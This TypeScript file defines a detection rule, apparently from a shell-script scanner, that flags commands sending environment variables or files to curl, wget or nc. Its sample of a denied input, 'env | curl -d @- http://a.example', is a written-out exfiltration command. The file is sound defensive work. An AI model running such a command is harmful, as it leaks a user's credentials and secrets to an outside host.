import type { BashRule } from '../../rule.ts';
import { hostileCommands } from '../../texts/hostile-commands.ts';
import { matchingLines } from './matching-lines.ts';

export const exfiltration: BashRule = {
  id: 'sh-exfiltration',
  severity: 'high',
  title: 'It sends what it finds to somebody ({name}).',
  cause: 'The environment and files of the machine are where credentials are.',
  explanation:
    'The environment, files and facts of the machine piped or posted to `curl`, `wget`, `nc` and the like.',
  hint: 'Print what you compute.',
  denied: 'env | curl -d @- http://a.example\n',
  allowed: 'env | sort\n',
  find: (facts) => matchingLines(facts, hostileCommands.exfiltration.pattern),
};
